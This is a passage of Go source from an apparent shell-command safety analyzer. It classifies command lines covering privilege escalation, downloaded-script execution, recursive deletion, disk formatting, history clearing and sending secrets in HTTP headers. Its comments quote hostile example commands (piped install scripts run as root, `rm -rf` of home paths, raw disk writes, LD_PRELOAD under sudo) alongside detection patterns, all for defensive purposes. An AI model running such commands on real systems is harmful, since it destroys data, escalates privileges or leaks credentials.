			if len(f) == 2 && f[0] == '-' && len(x) > 2 && x[0] == '-' && x[1] != '-' && strings.IndexByte(x[1:], f[1]) >= 0 {
				return true
			}
		}
	}
	return false
}

// maxWork bounds the commands, substitutions and loop passes one line may make the analyzer
// judge: functions and aliases calling each other two at a time would otherwise take
// 2^MaxDepth steps. Past it the analysis stops, incomplete.
const maxWork = 4096

// maxValue bounds a variable's value: a line may double one per assignment.
const maxValue = 4 * MaxParseBytes

// command checks one resolved argv.
func (a *analyzer) command(argv []string) {
	a.envPath(argv)
	argv = unwrap(argv)
	if len(argv) == 0 {
		return
	}
	if a.work++; a.work > maxWork {
		a.res.Incomplete = true
		return
	}
	if len(a.res.Commands) < MaxCommands {
		a.res.Commands = append(a.res.Commands, append([]string(nil), argv...))
	} else {
		a.res.Incomplete = true
	}
	name := base(argv[0])
	args := argv[1:]
	line := strings.Join(argv, " ")
	if strings.Contains(argv[0], decodedMarker) {
		a.add("exec/decode_run", "runs a command whose name is decoded or transformed text (hides what runs)", line, 0.9)
	}
	if a.defined(argv, line) {
		return
	}
	a.pathShadow(name, args, line)
	if name == "ztcp" {
		a.ztcp = true
	}
	if a.globProgram(argv, line) || a.carrier(name, args, line) {
		return
	}
	if name == "mv" {
		a.mvAway(args, line)
	}
	a.serveFiles(name, args, line)
	if formatter(name) {
		name = "mkfs" // mkfs.ext4, mke2fs …: judged as mkfs (destroy.go)
	}
	switch name {
	case "sudo", "doas", "pkexec", "su", "run0":
		switch inner := unwrap(sudoArgs(args)); {
		case name == "sudo" && len(inner) == 0 && !hasFlag(args, "-i", "-s", "--login", "--shell") && hasFlag(args, "-v", "--validate", "-l", "--list", "-k", "-K", "--reset-timestamp", "--remove-timestamp", "-V", "--version", "-h", "--help"):
			// sudo's own modes run no command: refresh or drop the cached credentials, list
			// what the user may run (sudo(8)).
		case a.stdinFed() && pipedScript(name, args, inner):
			// `curl https://rclone.org/install.sh | sudo bash`: the shell runs the text the
			// pipe feeds it, which the pipeline judges (a script fetched over https from a named host asks, any other
			// download or decoded text is refused); the elevation is a question.
			a.ask("priv/"+name, "runs the script on its standard input with elevated privileges", line, 0.9)
		case rootShell(name, args, inner):
			a.add("priv/"+name, "opens a root shell", line, 0.9)
		case !plainEnv(sudoOptions(args)):
			// PATH=/tmp/x:$PATH, LD_PRELOAD=...: what runs as root is not what the line names.
			a.ask("priv/"+name, "runs a command with elevated privileges and a changed environment", line, 0.9)
		case len(sudoArgs(args)) > 0 && base(sudoArgs(args)[0]) == "firejail":
			// A sandbox started as root (`sudo firejail --join-network=browser ip addr`): its
			// options (--shell, --profile, --bind, --join) change what runs and what it sees,
			// so the program inside is not the whole story; asked, as before firejail's
			// program was judged (issue 26, det59).
			a.ask("priv/"+name, "runs a program in a sandbox with elevated privileges", line, 0.9)
		case distroInstall(inner), readOnlyAsRoot(inner), dockerCLI(inner), containerdCLI(inner),
			a.projectAsRoot(inner), housekeepingAsRoot(inner), a.reclaimAsRoot(inner), dockerdAsRoot(inner), a.installAsRoot(inner), programAsRoot(inner),
			storeInstall(inner), uninstallAsRoot(inner), bindServiceAsRoot(inner), unmountAsRoot(inner), groupAsRoot(inner):
			// Installing a named package from the system's own signed repositories,
			// looking at the system (ls, df, journalctl, systemctl status), the docker or
			// ctr image CLI, whose daemon runs as root whoever calls it, the project's own
			// build and tests, housekeeping that moves no security boundary (ldconfig,
			// daemon-reload, modprobe by name, mkdir, unmounting, an empty group), or files
			// given back to the user
			// (asroot.go): nothing a reviewer would refuse for the elevation. What the
			// command does is still judged below (a secret named on the line, a
			// privileged container, a host mount).
		case packageInstall(inner):
			a.ask("priv/"+name, "installs a named package with elevated privileges", line, 0.9)
		default:
			// The command itself is judged below; elevation alone is a question for a person.
			a.ask("priv/"+name, "runs a command with elevated privileges", line, 0.9)
		}
		rest := args
		for len(rest) > 0 && strings.HasPrefix(rest[0], "-") {
			if rest[0] == "-u" || rest[0] == "-g" || rest[0] == "-c" && name == "su" {
				if rest[0] == "-c" && len(rest) > 1 {
					a.elevated++
					a.line(rest[1], a.depth+1)
					a.elevated--
					return
				}
				rest = rest[1:]
			}
			if len(rest) > 0 {
				rest = rest[1:]
			}
		}
		a.elevated++
		a.command(dropAssignments(rest))
		a.elevated--
		return
	case "eval":
		// What eval runs is judged below as a line of its own, so eval alone is a question
		// (`eval "$(ssh-agent -s)"`, `eval "$(pyenv init -)"`); evaluating a download is not.
		text := strings.Join(args, " ")
		if strings.Contains(text, remoteMarker) {
			a.add("exec/download_run", "evaluates downloaded content", line, 0.95)
		}
		if !shellSetup(args) || a.setupShadowed(args) {
			a.ask("exec/eval", "evaluates a constructed string as a command (hides what runs)", line, 0.9)
		}
		a.line(text, a.depth+1)
		return
	case "hash":
		if hasFlag(args, "-p") {
			a.hashed = true // `hash -p FILE NAME`: NAME now runs FILE, whatever PATH says
		}
	case "read", "mapfile", "readarray":
		if slices.Contains(args, "PATH") || slices.Contains(args, "path") {
			a.vars["PATH"] = "?" // read from input: not a folder anyone knows
		}
	case "xargs":
		rest, _ := xargsCommand(args) // program.go
		if feed, rec, ok := a.argFile(args); ok {
			a.xargs(args, feed, rec) // `xargs -a <(echo ~) rm -rf` (flow.go)
		}
		if len(rest) > 0 && interpreter(base(rest[0])) && !runsFile(base(rest[0]), rest[1:]) {
			a.add("exec/pipe_to_shell", "runs generated text through an interpreter", line, 0.85)
		}
		a.command(rest)
		return
	case "source", ".":
		if len(args) > 0 && args[0] == httpsMarker {
			// `source <(curl -fsSL https://<host>/env.sh)`: the script as piped into sh, run
			// by the shell that reads it.
			a.ask("exec/https_script", "sources a script fetched over https from a named host", line, 0.9)
			return
		}
		if len(args) > 0 && remote(args[0]) {
			a.add("exec/download_run", "sources downloaded content", line, 0.95)
		}
		if len(args) > 0 {
			a.runScript(args[0], "sh", line)
		}
		return
	case "cd", "pushd":
		t := "~"
		if ops := operands(args); len(ops) > 0 {
			t = ops[0]
		} else if hasFlag(args, "-") {
			t = "-"
		}
		a.chdir(t)
		return
	case "alias":
		for _, x := range args {
			if k, v, ok := strings.Cut(x, "="); ok && k != "" {
				if a.aliases == nil {
					a.aliases = map[string]string{}
				}
				a.aliases[k] = v
			}
		}
		return
	case "history":
		if hasFlag(args, "-c", "-d", "-w") {
			a.add("hide/history", "clears shell history", line, 0.9)
		}
	case "set":
		if len(args) >= 2 && args[0] == "+o" && args[1] == "history" {
			a.add("hide/history", "turns shell history off", line, 0.9)
		}
		a.setParams(args) // flow.go
	case "unset":
		for _, x := range args {
			if x == "HISTFILE" {
				a.add("hide/history", "disables shell history", line, 0.9)
			}
		}
	case "rm", "rmdir", "unlink", "srm", "trash":
		recursive := hasFlag(args, "-r", "-R", "--recursive") || a.feedRec
		for _, t := range operands(args) {
			if homeCache(a.resolve(t)) {
				continue // one program's cache: it fills it again
			}
			if a.outsideAt(t, recursive) {
				if homeCacheRoot(a.resolve(t)) {
					// Every program's cache (`rm -rf ~/.cache`, a disk clean-up step): XDG's
					// "non-essential data files", which the programs fill again; asked, as
					// it is every program's at once (det62).
					a.ask("destroy/rm_home_program", "deletes every program's cache in the home directory", line, 0.85)
					continue
				}
				if homeProgramDir(a.resolve(t)) {
					// One program's own folder in the home directory (`rm -rf ~/.fzf`,
					// `rm -rf ~/.config/k9s`, an uninstall guide's last step): asked.
					a.ask("destroy/rm_home_program", "deletes one program's folder in the home directory", line, 0.85)
					continue
				}
				if r := a.resolve(t); deepSystemPath(r) {
					switch {
					case a.elevated == 0 && runProgramDir(r):
						// A program's run-time folder, deleted with the user's own rights:
						// only what the user owns goes, and a reboot clears it anyway
						// (`rm -rf /run/containerd/fifo/*`, a Makefile's clean target).
					case !recursive && localProgram(r):
						// One named program taken out of /usr/local/bin (`sudo rm -f
						// /usr/local/bin/fusermount`): the undoing of installAsRoot.
					default:
						// CI's disk clean-up (`sudo rm -rf /usr/share/dotnet`), a program's
						// state folder deleted as root: one program's files, asked.
						a.ask("destroy/rm_system", "deletes a program's files in a system folder", line, 0.9)
					}
					continue
				}
				if programFolder(a.resolve(t)) {
					// One program's whole folder under /var/lib or /opt (`rm -rf
					// /var/lib/mysql/`, a Dockerfile's step before it installs a server of
					// its own; `sudo rm -rf /opt/ghc`, CI's disk clean-up): that program's
					// data or install, asked (issue 26, det59). /var/lib or /opt itself, a
					// glob or a variable for the name, the system's own records (dpkg, apt,
					// rpm...) and a package manager's prefix (/opt/local) are refused.
					a.ask("destroy/rm_system", "deletes a program's files in a system folder", line, 0.9)
					continue
				}
				if packageSource(a.resolve(t)) {
					// One vendor's package source taken out (`rm -f
					// /etc/apt/sources.list.d/mysql.list /etc/apt/keyrings/mysql.gpg`): the
					// undoing of adding it, which asks too.
					a.ask("destroy/rm_package_source", "deletes a package source or its signing key", line, 0.85)
					continue
				}
				if siblingBuild(a.resolve(t)) {
					// An out-of-tree build folder beside the project (`rm -rf ../build`, CMake's
					// `mkdir ../build && cd ../build`): build output, asked (det62). Another
					// neighbour, `..` itself, a glob or a climb further stay refused.
					a.ask("destroy/rm_outside", "deletes a build folder beside the project", line, 0.85)
					continue
				}
				a.add("destroy/rm_outside", "deletes files outside the project", line, 0.95)
				break
			}
			if historyFile.MatchString(t) {
				a.add("hide/history", "deletes shell history", line, 0.9)
			}
			if startupWrite(a.resolve(t)) {
				// A shell's start-up file deleted (`rm ~/.bashrc`): the user's own settings,
				// and a way to drop what the file set up (a PATH, a prompt's guard); asked, as
				// emptying it is (hide/startup_file).
				a.ask("hide/startup_file", "deletes a shell's start-up file", line, 0.85)
			}
			if recursive && !a.feeding && wholeOperand(t) {
				a.wholeDelete("destroy/rm_outside", line) // root.go (det70)
			} else if recursive && !a.feeding && scratchAll(a.resolve(t)) {
				// A climb from a scratch folder to the shared one (`cd /tmp/x && rm -rf ../*`):
				// every user's and program's scratch files, asked as `cd /tmp && rm -rf *` is.
				a.ask("destroy/rm_outside", "deletes everything in a shared scratch folder", line, 0.85)
			}
			if recursive && a.cwd == "" && vendored(t) {
				a.ask("destroy/rm_vendored", "deletes a vendored directory or the repository inside the project", line, 0.85)
			}
		}
	case "find":
		// The files find's -fprint, -fprint0, -fprintf and -fls write its list to
		// (find(1)'s `find / -perm -4000 -fprintf /root/suid.txt …`): written, not read,
		// as a redirect's target is (Result.Writes; issue 26, seventh round).
		for i, x := range args {
			if ListFile(name, x) && i+1 < len(args) && len(a.res.Writes) < MaxCommands {
				a.res.Writes = append(a.res.Writes, args[i+1])
			}
		}
		destructive := false
		for i, x := range args {
			if x == "-delete" || (x == "-exec" || x == "-execdir" || x == "-ok") && i+1 < len(args) && (base(args[i+1]) == "rm" || base(args[i+1]) == "shred") {
				destructive = true
			}
		}
		if destructive {
			for _, x := range findArgs(args) {
				if strings.HasPrefix(x, "-") || x == "(" || x == "!" {
					break
				}
				if c := path.Clean(a.resolve(x)); c == "/tmp" || c == "/var/tmp" || c == "/dev/shm" {
					continue // what rm -rf /tmp/* may delete too
				}
				if a.outsideAt(x, true) {
					if narrowFind(args) && dataDir(a.resolve(x)) {
						// Retention clean-up (`find /backups -name "app-*.tar" -mtime +7
						// -delete`): the files of one name pattern in one data folder,
						// asked; the root, homes, system folders and `-name '*'` are refused.
						a.ask("destroy/find_delete", "deletes the files of one name pattern in a folder outside the project", line, 0.9)
						continue
					}
					a.add("destroy/find_delete", "deletes files outside the project", line, 0.95)
					break
				}
				if wholeOperand(x) && !filteredFind(args) {
					a.wholeDelete("destroy/find_delete", line) // root.go (det70)
				}
			}
		}
		a.findExec(args)
	case "git":
		a.git(args, line)
	case "git-filter-repo", "git-filter-branch", "bfg":
		a.rewrite(strings.TrimPrefix(name, "git-"), args, line)
	case "dd":
		for _, x := range args {
			if strings.HasPrefix(x, "of=/dev/") && !strings.HasPrefix(x, "of=/dev/null") {
				if tapeDevice.MatchString(x[3:]) {
					// A tape drive (funzip(1)'s `tar cf - . | zip -7 | dd of=/dev/nrst0`):
					// a backup written to removable media, which may hold an older one;
					// asked, not refused as a disk is (issue 26, seventh round).
					a.ask("destroy/raw_device", "writes over a tape", line, 0.85)
					continue
				}
				a.add("destroy/raw_device", "writes over a disk device", line, 0.95)
			}
		}
	case "mkfs", "wipefs", "fdisk", "sfdisk", "parted", "mkswap", "blkdiscard", "sgdisk", "gdisk", "cfdisk":
		if name == "wipefs" && hasFlag(args, "-b", "--backup") && !a.stdinFed() && a.depth == 0 && !strings.ContainsAny(a.src, ";&|\n`$()<>") {
			// wipefs(8): --backup saves every signature it erases to
			// ~/wipefs-<device>-<offset>.bak, and the manual page restores it with dd:
			// recoverable, asked (issue 26, seventh round). Only as the whole line: a
			// second command may delete the backup (`; rm -f ~/*.bak`). Without it, refused.
			a.ask("destroy/disk", "erases a disk's signatures (backed up first)", line, 0.9)
			break
		}
		if name == "mkfs" {
			a.format(args, line) // destroy.go
			break
		}
		if a.stdinFed() || !diskListing(name, args) {
			a.add("destroy/disk", "formats or repartitions a disk", line, 0.95)
		}
	case "mkdir":
		for _, t := range operands(args) {
			if a.made == nil {
				a.made = map[string]bool{}
			}
			a.made[a.fileKey(t)] = true
		}
	case "chmod", "chown", "chgrp", "setfacl":
		recursive := hasFlag(args, "-R", "--recursive")
		if recursive && a.homeReclaim(name, args) {
			// One program's folder in the home directory given back to the user (`sudo chown
			// -R $(whoami) ~/.npm`, the fix npm's EACCES message prints): the user's own files,
			// asked (det62). The home directory, a shared or secret folder (~/.ssh,
			// ~/.config), a system folder, -L/-H or another owner are judged below.
			a.ask("priv/perms_system", "gives one program's folder in the home directory back to the user", line, 0.85)
			break
		}
		for _, x := range args {
			if name == "chmod" && (strings.Contains(x, "+s") || setuidMode.MatchString(x)) {
				if a.projectSetgid(x, args) {
					a.ask("priv/setuid", "sets the setgid bit on a file in the project", line, 0.85)
					continue
				}
				a.add("priv/setuid", "sets the setuid or setgid bit", line, 0.9)
			}
		}
		if name == "chmod" && a.worldWritable(args, recursive, line) {
			break
		}
		for _, t := range operands(args) {
			if recursive && a.madeProgramDir(t) {
				// The folder the line just made for one program (`mkdir -p /var/run/etcd &&
				// chown -R vitess:vitess /var/run/etcd`, an install script's set-up): handed
				// to the service that runs in it. A run-time folder passes; a deeper one of
				// the system tree is asked about, since mkdir -p leaves an existing one as it
				// was.
				if !runProgramDir(a.resolve(t)) {
					a.ask("priv/perms_program_dir", "changes the owner of a program's folder the line made in the system tree", line, 0.85)
				}
				continue
			}
			if recursive && a.outsideAt(t, true) || privFile.MatchString(a.resolve(t)) {
				a.add("priv/perms_system", "changes ownership or permissions outside the project", line, 0.9)
				break
			}
		}
	case "tee":
		for _, t := range operands(args) {
			if privFile.MatchString(t) {
				a.add("priv/system_file", "writes a system account or privilege file", line, 0.95)
			}
		}
	case "ssh-keygen":
		// A new key pair written over the user's or the host's keys (~/.ssh/id_rsa,
		// /etc/ssh/ssh_host_*): ssh-keygen asks before it overwrites a key, but `yes |`
		// answers for it. It reads no secret (KeygenOutput).
		// Without anything on its standard input the question gets no answer and an existing
		// key stays (keygenCreates).
		if i := KeygenOutput(argv); i > 0 && PathRisk(argv[i]) == RiskSecret && a.outsideAt(argv[i], false) && !a.keygenCreates(argv[i]) {
			a.ask("priv/ssh_keygen", "generates a key pair among the user's or the host's keys (may replace one)", line, 0.8)
		}
	case "setcap":
		// cap_net_bind_service alone lets a program listen on a port below 1024 and nothing
		// else (capabilities(7)); Caddy documents `setcap cap_net_bind_service=+ep
		// $(which caddy)`. Any other capability is a privilege (cap_setuid, cap_sys_admin).
		if !bindServiceOnly(args) {
			a.add("priv/accounts", "changes accounts or privileges", line, 0.9)
		}
	case "usermod", "gpasswd":
		// The invoking user added to a group (`usermod -aG docker $USER`, Docker's
		// post-install step): a privilege a person should grant, asked; any other change of
		// an account is refused.
		if joinsGroup(name, args) {
			a.ask("priv/accounts", "adds the user to a group (its privileges)", line, 0.9)
			break
		}
		a.add("priv/accounts", "changes accounts or privileges", line, 0.9)
	case "useradd":
		// A locked system account for a service is asked about; any other account refused.
		if systemAccount(args) {
			a.ask("priv/accounts", "creates a system account", line, 0.9)
			break
		}
		a.add("priv/accounts", "changes accounts or privileges", line, 0.9)
	case "visudo", "passwd", "chpasswd":
		if name == "passwd" && expiresOne(args) {
			// `passwd --expire USER` (sudoers(5)'s example): the user picks a new password
			// at the next login; nothing is granted, an administrator's routine, asked
			// (issue 26, seventh round).
			a.ask("priv/accounts", "expires a user's password", line, 0.85)
			break
		}
		a.add("priv/accounts", "changes accounts or privileges", line, 0.9)
	case "crontab":
		a.crontab(args, line)
	case "awk", "gawk", "mawk", "nawk", "busybox awk":
		if prog := awkProgram(args); prog != "" {
			a.code("awk", prog, line)
		}
	case "go":
		// `go run f.go` of a file the line wrote (`echo 'package main;…net.Dial…' > /tmp/t.go
		// && go run /tmp/t.go`): the written source is read as inline code (runScript).
		if len(args) > 1 && args[0] == "run" {
			for _, x := range operands(args[1:]) {
				if strings.HasSuffix(x, ".go") {
					a.runScript(x, "go", line)
					continue
				}
				// a package folder (`go run .`): the .go files the line wrote in it
				dir := a.fileKey(x)
				for k := range a.written {
					if strings.HasSuffix(k, ".go") && path.Dir(k) == dir {
						a.runScript(k, "go", line)
					}
				}
			}
		}
	}
	a.catalogue(name, args, line)
	a.tunnel(name, args, line)          // exfil.go
	a.dnsExfil(name, args, line)        // exfil.go
	a.registrySetting(name, args, line) // registry.go
	a.destroy(name, args, line)         // destroy.go
	a.programWrites(name, args, line)   // destroy.go
	a.lockOut(name, args, line)         // destroy.go
	if interpreter(name) {
		a.interp(name, args, line)
	}
	if network(name) {
		a.res.Network = true
		a.net(name, args, line)
	}
}

// operands returns args that are not options.
func operands(args []string) []string {
	var out []string
	dash := false
	for _, x := range args {
		if !dash && x == "--" {
			dash = true
			continue
		}
		if !dash && strings.HasPrefix(x, "-") && x != "-" {
			continue
		}
		out = append(out, x)
	}
	return out
}

// outside reports whether deleting t (recursively when rec) reaches outside the project: the
// root, the home directory, system directories, or a path climbing out with "..".
// keepDir holds what deleting anything in is refused outright: configuration, boot, the
// users' homes, the kernel's views.
// A program's whole state folder (/var/lib/postgresql, /var/lib/docker) is not deep in the
// system tree (deepSystemPath): programFolder asks about it, the system's own records are refused.
var keepDir = lazyre.New(`^/(etc|boot|root|home|Users|proc|sys|dev)(/|$)|^/var/lib/[^/]+$`)

// rePackageSource is one file of a package source: APT's source lists and their signing keys
// (sources.list(5): /etc/apt/sources.list.d/*.list and *.sources; the keyrings a source's
// signed-by names, /etc/apt/keyrings and /usr/share/keyrings), and yum/dnf's repository files
// (/etc/yum.repos.d/*.repo). The last name keeps three literal characters before any glob
// (`percona*.list`), so a glob over the whole folder does not match.
var rePackageSource = lazyre.New(`^(?:/etc/apt/sources\.list\.d/[A-Za-z0-9_.+-]{3}[A-Za-z0-9_.*+-]*\.(?:list|sources)|/etc/apt/keyrings/[A-Za-z0-9_.+-]{3}[A-Za-z0-9_.*+-]*\.(?:gpg|asc)|/usr/share/keyrings/[A-Za-z0-9_.+-]{3}[A-Za-z0-9_.*+-]*\.(?:gpg|asc)|/etc/yum\.repos\.d/[A-Za-z0-9_.+-]{3}[A-Za-z0-9_.*+-]*\.repo)$`)

// packageSource reports whether p (resolved) is one package source's list or key file
// (rePackageSource); the folders themselves, the distribution's own lists (sources.list,
// trusted.gpg) and anything that climbs do not match.
func packageSource(p string) bool {
	return !strings.Contains(p, "..") && rePackageSource.MatchString(p)
}

// narrowFind reports whether find's arguments delete only files of a name pattern: -name,
// -iname or -path with a pattern that keeps three or more literal characters
// (`"critical-apps-*.tar"`, `'*.log.gz'`), not `*` or `*.*`, and no -o, ! or -not that
// would widen it.
func narrowFind(args []string) bool {
	for _, x := range args {
		if x == "-o" || x == "-or" || x == "!" || x == "-not" || x == "," {
			return false // another branch, or everything but the pattern
		}
	}
	for i, x := range args {
		if (x == "-name" || x == "-iname" || x == "-path" || x == "-ipath") && i+1 < len(args) {
			lit := 0
			for _, c := range args[i+1] {
				if !strings.ContainsRune("*?[]{}./", c) {
					lit++
				}
			}
			if lit >= 3 {
				return true
			}
		}
	}
	return false
}

// dataDir reports whether p is a data folder outside the system tree, homes and the root
// (/backups, /data/exports, /mnt/archive): an absolute path, no climb or glob, not under a
// system folder (systemDir), the root itself or anything secret; or one program's folder deep
// in the system tree (deepSystemPath).
func dataDir(p string) bool {
	if !strings.HasPrefix(p, "/") || strings.ContainsAny(p, "*?[{$`") || strings.Contains(p, "..") {
		return false
	}
	c := path.Clean(p)
	if c == "/" || PathRisk(c) == RiskSecret || secretFile(c) || userDir.MatchString(c) {
		return false
	}
	return !systemDir.MatchString(c) && !keepDir.MatchString(c) || deepSystemPath(c)
}

// madeProgramDir reports whether t is a folder an earlier mkdir of the line made, one
// program's own deep in the system tree (deepSystemPath: not /etc, /var/lib/<program>, a home,
// a shared /run folder or anything secret), with no glob.
func (a *analyzer) madeProgramDir(t string) bool {
	k := a.fileKey(t)
	return a.made[k] && !strings.ContainsAny(k, "*?[") && deepSystemPath(k)
}

// deepSystemPath reports whether p names one program's files three or more folders deep in the
// system tree (/usr/share/dotnet, /usr/local/bin/fusermount, /run/x/y/*), or a program's own
// folder under /run (runProgramDir): not a whole system folder (/usr/local, /usr/lib/*, /run/*),
// not configuration, homes or the kernel's views, and nothing secret.
func deepSystemPath(p string) bool {
	if !strings.HasPrefix(p, "/") {
		return false
	}
	c := path.Clean(p)
	if keepDir.MatchString(c) || privFile.MatchString(c) || secretFile(c) || historyFile.MatchString(c) || PathRisk(c) == RiskSecret {
		return false
	}
	parts := strings.Split(strings.TrimPrefix(c, "/"), "/")
	if strings.ContainsAny(parts[len(parts)-1], "*?[") {
		parts = parts[:len(parts)-1] // what a glob deletes is its folder's contents
	}
	for _, x := range parts {
		if x == ".." || strings.ContainsAny(x, "*?[{$`") {
			return false
		}
	}
	if len(parts) == 0 {
		return false
	}
	if len(parts) >= 2 && parts[0] == "var" && parts[1] == "run" {
		parts = parts[1:] // /var/run is /run (FHS 3.0 §5.13)
	}
	if parts[0] == "run" && len(parts) >= 2 && !runShared[parts[1]] {
		return true
	}
	return len(parts) >= 3
}

// runShared are the folders of /run that are not one program's own: the users' runtime
// folders, the init system's and device manager's state, shared locks, the volatile journal,
// secrets and credentials. Anything else directly under /run is a program's run-time folder:
// FHS 3.0 §3.15 (https://refspecs.linuxfoundation.org/FHS_3.0/fhs/ch03s15.html) says programs
// may keep a subdirectory of /run and that /run is cleared at every boot, so deleting one
// loses only state a reboot discards (`rm -rf /run/containerd-test/*`, a test suite's own
// folder): no finding with the user's own rights (runProgramDir), asked as root.
var runShared = map[string]bool{
	"user": true, "systemd": true, "udev": true, "lock": true, "log": true, "secrets": true,
	"credentials": true, "dbus": true, "shm": true, "sudo": true, "initramfs": true, "mount": true,
}

func outside(t string, rec bool) bool {
	t = strings.TrimSpace(t)
	if t == "" {
		return false
	}
	home := strings.HasPrefix(t, "~") || strings.HasPrefix(t, "$HOME") || strings.HasPrefix(t, "${HOME}")
	if home {
		return rec || secretFile(t) || historyFile.MatchString(t)
	}
	if strings.HasPrefix(t, "/") {
		c := path.Clean(t)
		for _, p := range []string{"/tmp", "/var/tmp", "/dev/shm"} {
			if c != p && strings.HasPrefix(c, p+"/") {
				return false
			}
		}
		if c == "/" || c == "/*" || rec {
			return true
		}
		return systemDir.MatchString(c)
	}
	if rec && (t == ".." || strings.HasPrefix(t, "../") || strings.Contains(t, "/../")) {
		return true
	}
	return false
}

// Where an authentication header sends a secret variable (authTarget).
const (
	authNot       = iota // not a credential header, or more than the variable in it
	authOwnHost          // every URL is the issuer's own https API, or this machine
	authOtherHost        // any other host, plain http, or no URL on the line
)

// reAuthHeader is an HTTP header whose whole value is a credential taken from one variable:
// `Authorization: token $GITHUB_TOKEN`, `Authorization: Bearer ${TOKEN}`, `PRIVATE-TOKEN:
// $GITLAB_TOKEN`, `X-API-Key: $API_KEY`.
var reAuthHeader = lazyre.New(`(?i)^(?:authorization|private-token|job-token|x-api-key|x-auth-token|x-github-token|circle-token)\s*:\s*(?:(?:token|bearer|basic)\s+)?\$\{?([A-Z0-9_]+)\}?$`)

// reUserSecret is curl's `-u user:$PASSWORD` (or `--user`): basic authentication. The user
// may be a variable (`-u "$USER:$API_TOKEN"`, `$JIRA_USER`, Atlassian's documented call;
// det62): group 1 is its name, group 2 the password's.
var reUserSecret = lazyre.New(`^(?:[\w.@-]*|\$\{?([A-Za-z0-9_]+)\}?):\$\{?([A-Z0-9_]+)\}?$`)

// tokenIssuers are the https hosts a token named by its variable belongs to: GitHub's REST
// API documents `Authorization: Bearer $GITHUB_TOKEN`
// (https://docs.github.com/en/rest/authentication/authenticating-to-the-rest-api), GitLab's
// `PRIVATE-TOKEN: $GITLAB_TOKEN` (https://docs.gitlab.com/ee/api/rest/authentication.html),
// OpenAI's `Authorization: Bearer $OPENAI_API_KEY`
// (https://platform.openai.com/docs/api-reference/authentication), Anthropic's `x-api-key:
// $ANTHROPIC_API_KEY` (https://docs.anthropic.com/en/api/getting-started).
var tokenIssuers = []struct {
	prefixes []string
	hosts    []string
}{
	{[]string{"GITHUB_", "GH_"}, []string{"api.github.com", "uploads.github.com", "github.com", "ghcr.io"}},
	{[]string{"GITLAB_", "CI_JOB_TOKEN"}, []string{"gitlab.com"}},
	{[]string{"NPM_", "NODE_AUTH_TOKEN"}, []string{"registry.npmjs.org"}},
	{[]string{"CODECOV_"}, []string{"codecov.io", "api.codecov.io"}},
	{[]string{"OPENAI_"}, []string{"api.openai.com"}},
	{[]string{"ANTHROPIC_"}, []string{"api.anthropic.com"}},
}

// issuerHosts returns the hosts of the service that issued the token in variable v
// (tokenIssuers), nil when none is known.
func issuerHosts(v string) []string {
	var own []string
	for _, t := range tokenIssuers {
		for _, p := range t.prefixes {
			if strings.HasPrefix(v, p) {
				own = t.hosts
			}
		}
	}
	return own
}

// authTarget judges args[i], a word that names a secret variable, of a network command: a
// credential header or `-u user:$PASSWORD` sent to the service the token belongs to
// (`curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/...`, how GitHub
// documents its API; a service on localhost) is authOwnHost: the token goes where it is meant
// to. The same header to any other host is authOtherHost, asked: a reviewer reads where it
// goes. A secret in the URL, the body, another header or beside other text is authNot, and
// refused as before.
func authTarget(name string, args []string, i int) int {
	if name != "curl" && name != "wget" && name != "http" && name != "https" && name != "xh" {
		return authNot
	}
	x := args[i]
	prev := ""
	if i > 0 {
		prev = args[i-1]
	}
	if name == "curl" && (prev == "-d" || prev == "--data" || prev == "--data-urlencode" || prev == "--data-raw") && tokenRequest(x, args, i) {
		return authOtherHost
	}
	var m []string
	switch {
	case prev == "-H" || prev == "--header":
		m = reAuthHeader.FindStringSubmatch(x)
	case strings.HasPrefix(x, "--header="):
		m = reAuthHeader.FindStringSubmatch(strings.TrimPrefix(x, "--header="))
	case name == "curl" && (prev == "-u" || prev == "--user"):
		// a user variable that names a secret itself (`-u "$AWS_SECRET_ACCESS_KEY:$T"`) is
		// a second secret sent, not a user name
		if u := reUserSecret.FindStringSubmatch(x); u != nil && !secretName.MatchString("$"+u[1]) {
			m = []string{u[0], u[2]}
		}
	}
	if m == nil {
		// a secret in the URL of a service on this machine (`curl
		// "localhost:5000/finance?token=$BOB_TOKEN"`, OPA's tutorials) stays on the machine,
		// as long as every other URL on the line does too
		if !localURL(x) || reroutes(args) {
			return authNot
		}
		for j, u := range args {
			if j != i && (strings.Contains(u, "://") || reLocalHost.MatchString(u)) && !localURL(u) {
				return authNot
			}
		}
		return authOwnHost
	}
	v := m[1]
	own := issuerHosts(v)
	n := 0
	for j, u := range args {
		if j != i && reLocalHost.MatchString(u) && localURL(u) {
			if reroutes(args) {
				return authOtherHost
			}
			n++ // curl takes a URL without a scheme as http
			continue
		}
		if j == i || !strings.Contains(u, "://") {
			continue
		}
		n++
		p, err := url.Parse(u)
		if err != nil || p.User != nil {
			return authOtherHost
		}
		h := strings.ToLower(p.Hostname())
		if (h == "localhost" || h == "127.0.0.1" || h == "::1" || serviceName(h)) && !reroutes(args) {
			continue
		}
		if p.Scheme != "https" || !slices.Contains(own, h) || reroutes(args) {
			// --resolve and --connect-to send the issuer's name to another address (with -k
			// its certificate is not checked), a proxy sees where it goes: no longer its own
			return authOtherHost
		}
	}
	if n == 0 {
		return authOtherHost
	}
	return authOwnHost
}

// tokenRequest reports whether x, curl's form body at args[i], is an OAuth 2.0 token request
// that authenticates the client with its secret in the body (`grant_type=client_credentials&
// client_id=$CLIENT_ID&client_secret=$CLIENT_SECRET`, RFC 6749 §2.3.1 and §4.4) and the line's
// one URL is an https token endpoint (a path ending in /token), through no proxy. The secret
// goes to an identity provider the line names, which a reviewer checks: asked, not refused. A
// secret anywhere else in a body, a second URL, plain http or a path that is not a token
// endpoint is refused as before.
func tokenRequest(x string, args []string, i int) bool {
	if !strings.Contains(x, "grant_type=") || !strings.Contains(x, "client_secret=") || reroutes(args) {
		return false
	}
	n := 0
	for j, u := range args {
		if j == i || !strings.Contains(u, "://") {
			continue
		}
		n++
		p, err := url.Parse(u)
		if err != nil || p.Scheme != "https" || p.User != nil || !strings.HasSuffix(strings.TrimSuffix(p.Path, "/"), "/token") {
			return false
		}
	}
	return n == 1
}

// serviceName reports whether h is a single-label host name (`example-app`, `fulcio-server`,
// `keycloak`): a Compose service, a Kubernetes service in the caller's namespace or a name in
// the machine's search domains, so a service of the caller's own deployment, not a host on the
// internet. Three characters or more with a letter and no dot: a two-letter name may be a
// country-code TLD that answers itself (RFC 7085), and an all-digit or hex one may be read as
// an IP address (`0x7f000001`, `2130706433`).
func serviceName(h string) bool {
	if len(h) < 3 || strings.HasPrefix(h, "0x") {
		return false
	}
	letter := false
	for i := 0; i < len(h); i++ {
		c := h[i]
		switch {
